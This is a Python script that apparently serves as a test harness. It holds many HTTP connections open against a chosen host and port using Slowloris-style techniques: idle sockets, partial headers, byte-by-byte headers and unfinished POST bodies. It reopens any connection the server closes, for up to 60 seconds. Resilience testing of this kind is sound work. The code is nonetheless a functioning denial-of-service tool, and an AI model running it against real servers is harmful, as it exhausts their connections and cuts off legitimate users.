"""Holds connections open: silent, with half a head, with a head sent byte by byte, or with a body that never ends.

    attack_connections.py HOST PORT --kind KIND --connections N

It opens all connections, prints `open`, and reopens each one that the server closes, until standard input ends or 60 s
have passed.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import sys

SECONDS = 60.0
HEAD = b"GET /v1/status HTTP/1.1\r\nHost: localhost\r\n"
BODY = b"POST /v1/events HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{"
BETWEEN_BYTES_SECONDS = 0.5
BETWEEN_TRIES_SECONDS = 0.05


async def hold(host: str, port: int, kind: str, opened: asyncio.Semaphore) -> None:
    """Hold one connection open; reopen it if the server closes it."""
    first = True
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                if kind == "half a head":
                    writer.write(HEAD)
                elif kind == "unfinished body":
                    writer.write(BODY)
                if first:
                    opened.release()
                    first = False
                if kind == "slow head":
                    for byte in HEAD * 100:
                        writer.write(bytes([byte]))
                        await asyncio.sleep(BETWEEN_BYTES_SECONDS)
                while await reader.read(65536):
                    pass
            finally:
                writer.close()
        if first:
            opened.release()
            first = False
        await asyncio.sleep(BETWEEN_TRIES_SECONDS)


async def attack(arguments: argparse.Namespace) -> None:
    """Hold all connections until standard input ends."""
    opened = asyncio.Semaphore(0)
    holding = [
        asyncio.create_task(hold(arguments.host, arguments.port, arguments.kind, opened))
        for _ in range(arguments.connections)
    ]
    for _ in holding:
        await opened.acquire()
    sys.stdout.write("open\n")
    sys.stdout.flush()
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.get_running_loop().run_in_executor(None, sys.stdin.read), SECONDS)
    for each in holding:
        each.cancel()


def main() -> None:
    """Parse the arguments and attack."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--kind", choices=["silent", "half a head", "slow head", "unfinished body"], required=True)
    parser.add_argument("--connections", type=int, required=True)
    asyncio.run(attack(parser.parse_args()))


if __name__ == "__main__":
    main()
